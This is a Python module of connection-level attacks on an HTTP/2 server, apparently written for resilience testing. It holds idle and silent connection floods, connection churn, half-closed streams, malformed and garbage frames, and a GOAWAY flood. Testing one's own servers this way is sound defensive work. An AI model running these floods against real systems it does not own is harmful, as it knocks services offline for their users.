"""Attacks with many connections that do little or nothing."""

import socket
import time

from attacks.target import hold_open, persist
from attacks.wire import ACK, GOAWAY, HEADERS, PREFACE, SETTINGS, Closed, Peer, frame, request_headers


def silent_connections(target):
    """1,500 connections that send nothing"""
    hold_open(target, 1500, introduce=False)


def introduced_and_idle(target):
    """1,000 connections that introduce themselves and open no stream"""
    hold_open(target, 1000, prepare=lambda peer: peer.acknowledge())


def churn(target):
    """connections opened and closed as fast as possible"""
    while target.seconds_left > 0:
        try:
            with Peer(target):
                pass
        except Closed:
            time.sleep(0.01)


def half_closed(target):
    """500 connections that open a call, close their side and stay"""

    def prepare(peer):
        peer.acknowledge()
        peer.call(target.server_stream)
        peer.socket.shutdown(socket.SHUT_WR)

    hold_open(target, 500, prepare=prepare)


def garbage(target):
    """random bytes, TLS, HTTP/1.1 and frames of unknown types"""
    kinds = [
        b"\x16\x03\x01" + bytes(500),
        b"GET / HTTP/1.1\r\nHost: a\r\n\r\n",
        PREFACE + b"\xff" * 5000,
        PREFACE + frame(SETTINGS, 0, 0) + frame(200, 255, 77, bytes(16000)) * 50,
        PREFACE + frame(SETTINGS, ACK, 0),
        PREFACE + frame(HEADERS, 4, 1, request_headers(target.unary)),
    ]
    turn = 0
    while target.seconds_left > 0:
        turn += 1
        try:
            with Peer(target, introduce=False) as peer:
                peer.send(kinds[turn % len(kinds)])
                peer.idle(0.02)
        except Closed:
            target.closed += 1


def goaway_flood(target):
    """GOAWAY frames as fast as possible"""
    burst = frame(GOAWAY, 0, 0, bytes(8) + b"x" * 100) * 100
    persist(target, lambda peer: [peer.send(burst) for _ in range(100000)])
